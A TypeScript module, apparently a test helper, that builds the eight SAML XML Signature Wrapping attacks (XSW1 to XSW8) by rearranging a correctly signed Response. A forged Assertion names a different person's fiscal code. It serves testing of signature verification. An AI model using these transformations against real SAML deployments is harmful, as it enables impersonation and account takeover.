// The eight ways to wrap a signed Assertion (XSW1 to XSW8), each as a change of a correct Response.

import assert from 'node:assert/strict';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import type { Element } from '@xmldom/xmldom';

const DS = 'http://www.w3.org/2000/09/xmldsig#';

/** The posted document taken apart: each attack puts the pieces together in its own way. */
export function takeApart(document: string) {
  const response = new DOMParser().parseFromString(document, 'text/xml').documentElement;
  assert(response);
  const assertion = child(response, 'Assertion');
  // A clone of an Element is one; xmldom types it as any Node.
  const copy = (element: Element) => element.cloneNode(true) as Element;
  return { response, assertion, copy };
}

export function child(parent: Element, name: string): Element {
  const found = optionalChild(parent, name);
  assert(found, `${parent.localName} has no ${name}`);
  return found;
}

function optionalChild(parent: Element, name: string): Element | undefined {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === 1 && node.nodeName.split(':').at(-1) === name) return node as Element;
  }
  return undefined;
}

export function without(element: Element, name: string): Element {
  const found = optionalChild(element, name);
  if (found !== undefined) element.removeChild(found);
  return element;
}

/** A copy that names another person, under another ID unless it is kept. */
export function falsified(element: Element, id: string): Element {
  const text = new XMLSerializer()
    .serializeToString(element)
    .replaceAll('LVLDAA85T50G702B', 'BRGLRZ80D58H501Q');
  const copy = new DOMParser().parseFromString(text, 'text/xml').documentElement;
  assert(copy);
  copy.setAttribute('ID', id);
  return copy;
}

export function wrapper(
  parent: Element,
  namespace: string,
  name: string,
  content: Element,
): Element {
  const owner = parent.ownerDocument;
  assert(owner);
  const element = owner.createElementNS(namespace, name);
  element.appendChild(content);
  return element;
}

type Attack = (document: string) => Element;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'XSW1: the real Response inside the signature of a false one': (document) => {
    const { response, copy } = takeApart(document);
    const real = without(copy(response), 'Signature');
    const evil = falsified(response, '_evil');
    (optionalChild(evil, 'Signature') ?? child(child(evil, 'Assertion'), 'Signature')).appendChild(
      real,
    );
    return evil;
  },
  'XSW2: the real Response beside its signature in a false one': (document) => {
    const { response, copy } = takeApart(document);
    const real = without(copy(response), 'Signature');
    const evil = falsified(response, '_evil');
    evil.insertBefore(real, child(evil, 'Status'));
    return evil;
  },
  'XSW3: a false Assertion before the real one': (document) => {
    const { response, assertion } = takeApart(document);
    response.insertBefore(without(falsified(assertion, '_evil'), 'Signature'), assertion);
    return response;
  },
  'XSW4: the real Assertion inside a false one': (document) => {
    const { response, assertion } = takeApart(document);
    const evil = without(falsified(assertion, '_evil'), 'Signature');
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return response;
  },
  'XSW5: a false Assertion with the signature, the real one after it': (document) => {
    const { response, assertion, copy } = takeApart(document);
    response.appendChild(without(copy(assertion), 'Signature'));
    response.replaceChild(falsified(assertion, '_evil'), assertion);
    return response;
  },
  'XSW6: the real Assertion inside the signature of a false one': (document) => {
    const { response, assertion, copy } = takeApart(document);
    const evil = falsified(assertion, '_evil');
    child(evil, 'Signature').appendChild(without(copy(assertion), 'Signature'));
    response.replaceChild(evil, assertion);
    return response;
  },
  'XSW7: a false Assertion of the same ID inside Extensions': (document) => {
    const { response, assertion } = takeApart(document);
    const evil = without(falsified(assertion, '_assertion1'), 'Signature');
    const namespace = 'urn:oasis:names:tc:SAML:2.0:protocol';
    const extensions = wrapper(response, namespace, 'samlp:Extensions', evil);
    response.insertBefore(extensions, child(response, 'Status'));
    return response;
  },
  'XSW8: the real Assertion inside an Object of the signature of a false one': (document) => {
    const { response, assertion, copy } = takeApart(document);
    const evil = falsified(assertion, '_assertion1');
    const real = without(copy(assertion), 'Signature');
    const object = wrapper(evil, DS, 'ds:Object', real);
    child(evil, 'Signature').appendChild(object);
    response.replaceChild(evil, assertion);
    return response;
  },
};
